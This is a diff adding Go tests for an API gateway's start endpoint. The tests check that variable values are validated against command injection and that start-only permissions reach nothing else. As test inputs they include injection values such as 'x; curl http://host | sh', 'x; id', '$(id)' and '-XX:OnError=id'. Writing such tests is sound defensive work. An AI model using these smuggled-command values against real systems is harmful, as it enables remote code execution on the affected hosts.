@@ -1,0 +1,99 @@
+package apigateway
+
+import (
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/orreryhq/orrery/apigateway/internal/auth"
+	"github.com/orreryhq/orrery/libs/fleet"
+)
+
+// start asks for an instance with one value.
+func (s *site) startWith(key, value string) *reply {
+	s.t.Helper()
+	return s.do("POST", "/api/v1/groups/lobby/start", map[string]any{"variables": map[string]string{key: value}})
+}
+
+func TestOnlyDeclaredVariablesAreGivenAtStart(t *testing.T) {
+	s := newSite(t)
+	s.group("lobby", map[string]any{"command": `java -Dmotd="%motd%" -jar server.jar %text%`, "variableValues": map[string]string{"free": "x"}, "maxInstances": 100})
+	declared := []fleet.Variable{
+		{Key: "motd", Type: fleet.VariableString, Scope: fleet.ScopeInstance}, {Key: "text", Type: fleet.VariableText, Scope: fleet.ScopeInstance},
+		{Key: "group", Type: fleet.VariableString, Scope: fleet.ScopeGroup}, secretVariable("pw", fleet.ScopeInstance),
+	}
+	s.startWith("any", "x").want(422).naming("variables.any") // also while nothing is declared
+	s.defining("lobby", declared...)
+	before := s.revision()
+	for _, c := range []struct{ key, value string }{
+		{"PORT", "x; curl http://host | sh"}, {"PORT_QUERY", "1"}, {"INSTANCE_NAME", "x"}, {"any", "x"}, {"free", "y"}, {"group", "x"},
+		{"motd", "a\nb"}, {"motd", "a\rb"}, {"motd", "a\x1bb"}, {"motd", "a\u2028b"}, {"motd", "a\u0085b"}, {"motd", "a\x00b"}, {"text", "a\x00b"}, {"text", "a\x1bb"}, {"pw", "a\nb"},
+		{"motd", strings.Repeat("x", 64<<10)}, {"text", strings.Repeat("x", 64<<10)}, {"text", "-XX:OnError=id"},
+	} {
+		s.startWith(c.key, c.value).want(422).naming("variables")
+	}
+	if s.revision() != before {
+		t.Error("a refused start wrote something")
+	}
+	for _, value := range []string{`it's "fine"`, "$(id) `id` ; | & > <", "%", "%%", "%PORT%", "%group%", `\`, "", "ünï ✓", "a\nb"} {
+		key := "motd"
+		if strings.Contains(value, "\n") {
+			key = "text"
+		}
+		list, _ := s.startWith(key, value).want(200).field("instances").([]any)
+		one, _ := list[0].(map[string]any)
+		name, _ := one["id"].(string)
+		if i, ok := s.view.Snapshot().Find(name); !ok || i.Intent.Values[key] != value {
+			t.Errorf("%s is started with %q, want %q", name, i.Intent.Values, value)
+		}
+	}
+}
+
+func TestAStartIsRefusedWhereAValueWouldBeCode(t *testing.T) {
+	s := newSite(t)
+	s.group("lobby", map[string]any{"maxInstances": 100})
+	s.defining("lobby", fleet.Variable{Key: "X", Type: fleet.VariableString, Scope: fleet.ScopeInstance})
+	for _, c := range []struct {
+		says  string
+		group map[string]any
+		value string
+	}{
+		{"bash", map[string]any{"command": `bash -c 'java %X%'`}, "x"},
+		{"eval", map[string]any{"command": `eval java %X%`}, "x"},
+		{"here-document", map[string]any{"command": "java <<E\n%X%\nE\n"}, "x"},
+		{"BASH_ENV", map[string]any{"command": "java", "env": map[string]string{"BASH_ENV": "%X%"}}, "x"},
+		{"option of java", map[string]any{"command": "", "env": map[string]any{"BASH_ENV": nil}, "jarFile": "s.jar", "jvmArgs": []string{"-X%X%"}}, "-Xint"},
+		{"must not begin with -", map[string]any{"jvmArgs": []string{"%X%"}}, "-Xint"},
+		{"option of java", map[string]any{"jvmArgs": []string{"-XX:OnError=%X%"}}, "x"},
+		{"hostAddress", map[string]any{"command": "java", "jvmArgs": []string{}, "hostAddress": "%X%.example.com"}, "a b"},
+		{"container.image", map[string]any{"command": "java", "hostAddress": "", "runtime": "docker", "container": map[string]any{"image": "games/%X%"}}, "a b"},
+	} {
+		s.do("PATCH", "/api/v1/groups/lobby", c.group).want(200)
+		s.startWith("X", c.value).want(422).naming("variables.X").naming(c.says)
+		s.do("POST", "/api/v1/groups/lobby/start?dryRun=true", map[string]any{"variables": map[string]string{"X": c.value}}).want(422)
+	}
+	s.do("PATCH", "/api/v1/groups/lobby", map[string]any{"command": "", "runtime": "process", "container": nil, "jvmArgs": []string{"-Dmotd=a %X% b"}}).want(200)
+	s.startWith("X", "$(id)").want(200)
+}
+
+func TestWhoMayOnlyStartReachesNothingElse(t *testing.T) {
+	s := &holding{newSite(t), map[string]*site{}}
+	s.group("lobby", map[string]any{"command": "./run %X%"})
+	s.defining("lobby", fleet.Variable{Key: "X", Type: fleet.VariableString, Scope: fleet.ScopeInstance}, secretVariable("pw", fleet.ScopeInstance))
+	may := []fleet.Permission{auth.GroupsStart}
+	starter := s.of(may)
+	starter.startWith("PORT", "x; id").want(422)
+	starter.startWith("pw", "secret:db").want(403)
+	starter.startWith("X", "$(id)").want(200)
+	for _, r := range s.routes() {
+		wanted := r.Demand.Permissions()
+		beyond := slices.ContainsFunc(wanted, func(p fleet.Permission) bool { return !slices.Contains(may, p) })
+		if !beyond {
+			continue
+		}
+		path := strings.NewReplacer(":group", "x", ":name", "lobby", ":id", "lobby-1", "*path", "x", ":hash", "x", ":platform", "x", ":version", "x").Replace(r.Path)
+		if got := starter.do(r.Method, path, "{}"); got.status != 403 {
+			t.Errorf("%s %s: %d %s", r.Method, path, got.status, got.raw)
+		}
+	}
+}
